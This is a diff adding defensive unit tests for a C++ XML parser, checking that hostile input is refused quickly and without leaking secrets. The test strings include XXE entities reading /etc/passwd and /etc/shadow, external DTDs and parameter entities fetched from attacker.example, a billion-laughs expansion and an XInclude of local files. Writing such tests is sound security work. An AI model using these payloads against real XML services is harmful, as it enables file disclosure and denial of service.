@@ -2,6 +2,9 @@
 
 #include <gtest/gtest.h>
 
+#include <chrono>
+#include <nlohmann/json.hpp>
+
 using namespace xoev;
 
 TEST(XmlDocument, ParsesAndNavigates) {
@@ -34,4 +37,128 @@ TEST(XmlDocument, EmptyBodyIsMalformed) {
   auto doc = XmlDocument::parse("");
   ASSERT_FALSE(doc.ok());
   EXPECT_EQ(doc.problem().kind, ProblemKind::malformed_xml);
+}
+
+// ---- hostile input: every case is refused quickly, with a clear error, no secret ----
+
+
+namespace {
+
+// Parses and returns the problem, failing the test if it took longer than a second.
+Problem refused(const std::string& bytes, size_t max_bytes = 64u << 20) {
+  const auto start = std::chrono::steady_clock::now();
+  auto doc = XmlDocument::parse(bytes, max_bytes);
+  const auto took = std::chrono::steady_clock::now() - start;
+  EXPECT_LT(took, std::chrono::seconds(1));
+  EXPECT_FALSE(doc.ok());
+  return doc.ok() ? Problem{} : doc.problem();
+}
+
+}  // namespace
+
+TEST(XmlDocumentHostile, XxeReadingEtcPasswdIsRefusedWithoutTheSecret) {
+  const Problem p = refused(
+      "<?xml version=\"1.0\"?>\n"
+      "<!DOCTYPE foo [ <!ELEMENT foo ANY > <!ENTITY xxe SYSTEM \"file:///etc/passwd\" > ]>\n"
+      "<foo>&xxe;</foo>\n");
+  EXPECT_EQ(p.kind, ProblemKind::malformed_xml);
+  EXPECT_EQ(p.http_status(), 400);
+  EXPECT_NE(p.detail.find("DOCTYPE"), std::string::npos);
+  const std::string everything = p.to_json().dump();
+  EXPECT_EQ(everything.find("root:"), std::string::npos);
+  EXPECT_EQ(everything.find("/bin/"), std::string::npos);
+  ASSERT_TRUE(p.location.has_value());
+  EXPECT_EQ(p.location->line, 2);
+}
+
+TEST(XmlDocumentHostile, ExternalDtdAndParameterEntitiesAreRefused) {
+  for (const std::string doctype :
+       {"<!DOCTYPE r SYSTEM \"http://attacker.example/evil.dtd\">",
+        "<!DOCTYPE r PUBLIC \"-//X//Y\" \"file:///etc/shadow\">",
+        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/x\"> %p;]>"}) {
+    const Problem p = refused("<?xml version=\"1.0\"?>\n" + doctype + "\n<r/>");
+    EXPECT_EQ(p.kind, ProblemKind::malformed_xml) << doctype;
+    EXPECT_NE(p.detail.find("DOCTYPE"), std::string::npos) << doctype;
+  }
+}
+
+TEST(XmlDocumentHostile, BillionLaughsIsRefusedFast) {
+  std::string dtd = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n";
+  dtd += " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n";
+  for (int i = 2; i <= 9; ++i) {
+    const std::string prev = "&lol" + std::to_string(i - 1) + ";";
+    std::string body;
+    for (int k = 0; k < 10; ++k) body += prev;
+    dtd += " <!ENTITY lol" + std::to_string(i) + " \"" + body + "\">\n";
+  }
+  dtd += "]>\n<lolz>&lol9;</lolz>\n";
+  const Problem p = refused(dtd);
+  EXPECT_EQ(p.kind, ProblemKind::malformed_xml);
+  EXPECT_NE(p.detail.find("DOCTYPE"), std::string::npos);
+  EXPECT_LT(p.to_json().dump().size(), 2000u);  // nothing expanded into the answer
+}
+
+TEST(XmlDocumentHostile, DeepNestingIsAClearErrorNotAStackOverflow) {
+  const int depth = 100000;
+  std::string deep;
+  deep.reserve(depth * 7 + 16);
+  for (int i = 0; i < depth; ++i) deep += "<a>";
+  for (int i = 0; i < depth; ++i) deep += "</a>";
+  const Problem p = refused(deep);
+  EXPECT_EQ(p.kind, ProblemKind::malformed_xml);
+  EXPECT_NE(p.detail.find("depth"), std::string::npos) << p.detail;
+  ASSERT_EQ(p.errors.size(), 1u);
+  EXPECT_GT(p.errors[0].column, 0);
+}
+
+TEST(XmlDocumentHostile, ModerateNestingStillParses) {
+  std::string ok;
+  for (int i = 0; i < 200; ++i) ok += "<a>";
+  for (int i = 0; i < 200; ++i) ok += "</a>";
+  EXPECT_TRUE(XmlDocument::parse(ok).ok());
+}
+
+TEST(XmlDocumentHostile, InvalidUtf8IsMalformedWithPosition) {
+  const Problem p = refused("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<r>\n  caf\xC3\x28 \xFF\xFE</r>");
+  EXPECT_EQ(p.kind, ProblemKind::malformed_xml);
+  EXPECT_NE(p.detail.find("UTF-8"), std::string::npos) << p.detail;
+  ASSERT_TRUE(p.location.has_value());
+  EXPECT_EQ(p.location->line, 3);
+}
+
+TEST(XmlDocumentHostile, EmptyAndWhitespaceBodies) {
+  EXPECT_EQ(refused("").kind, ProblemKind::malformed_xml);
+  const Problem blank = refused("   \n\t ");
+  EXPECT_EQ(blank.kind, ProblemKind::malformed_xml);
+  EXPECT_EQ(refused("<?xml version=\"1.0\"?>").kind, ProblemKind::malformed_xml);
+}
+
+TEST(XmlDocumentHostile, HugeAttributeIsRefused) {
+  // libxml2 caps a single text or attribute value at 10 MB unless XML_PARSE_HUGE is set.
+  std::string huge = "<r a=\"";
+  huge.append(11u << 20, 'x');
+  huge += "\"/>";
+  const Problem p = refused(huge);
+  EXPECT_EQ(p.kind, ProblemKind::malformed_xml);
+  EXPECT_FALSE(p.detail.empty());
+  EXPECT_LT(p.to_json().dump().size(), 4096u);  // the value is not echoed
+}
+
+TEST(XmlDocumentHostile, SizeLimitBeforeParsing) {
+  const Problem p = refused("<r>" + std::string(2000, 'x') + "</r>", 1000);
+  EXPECT_EQ(p.kind, ProblemKind::payload_too_large);
+  EXPECT_EQ(p.http_status(), 413);
+}
+
+TEST(XmlDocumentHostile, BinaryGarbage) {
+  std::string bmp = "BM\x36\x00\x0c\x00\x00\x00\x00\x00\x36\x00\x00\x00";
+  bmp.append(64, '\0');
+  EXPECT_EQ(refused(bmp).kind, ProblemKind::malformed_xml);
+}
+
+TEST(XmlDocumentHostile, XIncludeIsNotProcessed) {
+  auto doc = XmlDocument::parse(
+      "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></r>");
+  ASSERT_TRUE(doc.ok());
+  EXPECT_EQ(text_of(doc->root()).find("root:"), std::string::npos);
 }
